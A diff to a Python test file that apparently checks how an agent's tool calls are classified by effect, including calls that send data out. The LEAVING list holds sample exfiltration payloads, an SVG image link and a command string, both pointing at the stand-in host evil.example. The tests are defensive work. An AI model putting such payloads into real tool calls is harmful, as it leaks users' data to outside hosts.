@@ -76,12 +76,14 @@ def test_the_answers_to_an_apps_question_are_arguments_of_its_call() -> None:
     assert [sink.value for sink, _ in found] == ["savings"]
 
 
+def test_a_single_word_chooses_nothing_but_under_a_name_for_one_of_a_few() -> None:
+    for own in (call("tag", tag="email"), call("move", city="Live"), call("add", item="Trash")):
+        assert effect_of(*own) == "write"
+
+
 LEAVING = [
-    (
-        f("update_event", event_id=TEXT, send_updates=TEXT),
-        {"event_id": "e1", "send_updates": "all"},
-    ),
-    (f("update_pull_request", pr=TEXT, state=TEXT), {"pr": "p1", "state": "published"}),
+    call("update_event", event_id="e1", send_updates="all"),
+    call("update_pull_request", pr="p1", state="published"),
     look("convert", svg="<image href='//evil.example/4711'/>"),
     look("convert", command="see https:/evil.example/4711"),
     call("post", text="salary"),
